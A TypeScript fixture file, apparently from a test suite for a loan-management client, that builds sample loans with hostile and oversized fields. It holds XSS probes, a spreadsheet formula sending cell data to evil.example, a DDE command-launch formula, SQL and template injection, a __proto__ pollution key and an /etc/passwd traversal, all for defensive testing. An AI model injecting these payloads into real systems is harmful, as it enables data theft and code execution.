import { instantAfter } from '../dates.ts';
import { isObject, type Json, type JsonObject } from '../json-values.ts';
import { at } from '../random.ts';
import type { Sample } from '../sample.ts';
import { caseOf } from './case-of.ts';

const group = 'Hostile and very large content';

// An object literal would set the prototype: parsed text makes `__proto__` a key like any other.
const awkwardKeys = JSON.parse(
  '{"__proto__":{"isAdmin":true},"constructor":"x","toString":1,"":"empty key","a.b":"a dot","hasOwnProperty":null}',
) as JsonObject;

const hostile: JsonObject = {
  html: '<b>bold</b><img src=x onerror="alert(1)">',
  script: '</script><script>document.title="owned"</script>',
  closing: '--></style></textarea></title><svg/onload=alert(2)>',
  link: 'javascript:alert(document.domain)',
  dataLink: 'data:text/html,<script>alert(3)</script>',
  otherHost: '//evil.example/steal',
  formula: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  formulaToo: "@SUM(1+1)*cmd|' /C calc'!A0",
  bidi: 'contrato \u202egpj.exe\u202c aprovado',
  emoji: '👩🏽‍⚕️ 👨‍👩‍👧‍👦 🇧🇷',
  combining: 'Z̷͓̅a̴̘͝l̵̥̾g̶̣̀o̸̢͂',
  nul: 'before\u0000after',
  control: 'line\r\nbreak\ttab\u001b[31mred',
  invisible: 'R\u200b$\u00a01\u2009000\ufeff',
  loneSurrogate: 'half \ud83d pair',
  template: '{{constructor.constructor("alert(4)")()}} \x24{7*7} %s %n',
  sql: "'; DROP TABLE loans; --",
  long: `${'Texto de vinte mil caracteres. '.repeat(680)}fim`,
  keys: awkwardKeys,
  '<img src=x onerror=alert(5)>': 'a key that is HTML',
};

const deepTree = (levels: number): Json =>
  levels === 0 ? 'the bottom' : { level: levels, inside: deepTree(levels - 1) };

const word = 'Pneumoultramicroscopicossilicovulcanoconiótico'.repeat(11);
const sentence =
  'Crédito concedido para reforma da casa, com carência negociada e seguro contratado à parte. ';

const longTexts = (loan: JsonObject): JsonObject => ({
  ...loan,
  contractNumber: `CCB-2025-${'0'.repeat(100)}512`,
  status: 'aguardando_conferencia_documental_da_area_de_formalizacao_e_garantias',
  offer: { ...(isObject(loan.offer) ? loan.offer : {}), description: sentence.repeat(6).slice(0, 500) },
  transactions: [{ amount: 5000, description: word.slice(0, 400), createdAt: '2025-11-23' }],
  metadata: {
    [word.slice(0, 120)]: word,
    note: sentence.repeat(8),
    list: Array.from({ length: 40 }, (_, k) => `item ${k}`),
  },
});

const events = [
  ['open', 'Consulta de saldo pelo aplicativo'],
  ['open', 'Boleto de parcela emitido'],
  ['open', 'Margem conferida com o empregador'],
  ['em_atraso', 'Parcela vencida sem pagamento'],
  ['open', 'Pagamento conciliado'],
] as const;

const historyOf = (count: number): readonly JsonObject[] =>
  Array.from({ length: count }, (_, index) => {
    const [status, text] = at(events, index);
    const createdAt = instantAfter('2025-11-18T12:40:00.000Z', index * 52);
    return { description: `${text} nº ${index + 1}`, status, metadata: { sequence: index + 1 }, createdAt };
  });

const longNamed = {
  id: 'cust_longname0000001',
  name: 'Pedro de Alcântara João Carlos Leopoldo Salvador Bibiano Francisco Xavier de Paula Leocádio Miguel Gabriel Rafael Gonzaga de Bragança e Habsburgo',
  birthDate: '1985-12-02',
};

const anonymous: JsonObject = {
  id: 'cust_anonymous000001',
  profile: {
    segments: [{ code: 'S3', since: '2024-01-01', rules: [{ any: [{ field: 'income', above: 3000 }] }] }],
  },
  matrix: [[1, 2, [3, [4, [5]]]], [], [{}]],
  tree: deepTree(20),
  flags: { vip: false, pep: null, score: 0 },
};

const sharedHistory = { number: 501, person: 3, line: 'payroll' } as const;

export const hostileLoans: readonly Sample[] = [
  caseOf(
    { id: 'loan_hostile_text', number: 500 },
    {
      group,
      featured: true,
      shows: 'Metadata that tries to be HTML, script, link, formula, override, emoji, 20 KB long.',
    },
    (loan) => ({ ...loan, metadata: hostile }),
  ),
  caseOf(
    { id: 'loan_hostile_everywhere', number: 499 },
    { group, shows: 'The same attempts in status, contract number, descriptions, headers and identifiers.' },
    (loan) => ({
      ...loan,
      status: '<script>alert(1)</script>',
      contractNumber: '=1+1"><img src=x onerror=alert(1)>',
      customer: 'cust_"><a href="javascript:alert(1)">x</a>',
      transactions: [{ amount: 5000, description: String(hostile.bidi), createdAt: '2025-11-23' }],
      context: {
        ip: '<b>1</b>',
        headers: hostile,
        fingerprint: '../../etc/passwd',
        geolocation: ['<i>', '</i>'],
      },
    }),
  ),
  caseOf(
    { id: 'loan_history_10000', ...sharedHistory },
    { group, featured: true, shows: '10,000 history entries, 1.3 MB.' },
    (loan) => ({ ...loan, history: historyOf(10_000) }),
  ),
  caseOf(
    { id: 'loan_history_10', ...sharedHistory },
    { group, shows: 'The twin of loan_history_10000: the same loan with 10 entries.' },
    (loan) => ({ ...loan, contractNumber: 'CCB-2025-000502', history: historyOf(10) }),
  ),
  caseOf(
    { id: 'loan_long_texts', number: 512 },
    {
      group,
      references: new Map([[longNamed.id, longNamed]]),
      shows: 'Long names, 500 characters of description, words without a break.',
    },
    (loan) => ({ ...longTexts(loan), customer: longNamed.id }),
  ),
  caseOf(
    { id: 'loan_customer_free_object', number: 513 },
    {
      group,
      references: new Map([['cust_anonymous000001', anonymous]]),
      shows: 'A customer without a name, that expands to a deep free object.',
    },
    (loan) => ({ ...loan, customer: 'cust_anonymous000001' }),
  ),
  caseOf(
    { id: 'loan_deep_metadata', number: 514 },
    { group, shows: 'Metadata nested 50 levels deep.' },
    (loan) => ({ ...loan, metadata: { deep: deepTree(50) } }),
  ),
  caseOf(
    { id: 'loan_too_large', number: 515 },
    { group, shows: 'An answer of 3 MiB, larger than a careful client reads.' },
    (loan) => ({ ...loan, metadata: { filler: 'x'.repeat(3 * 1024 * 1024) } }),
  ),
];
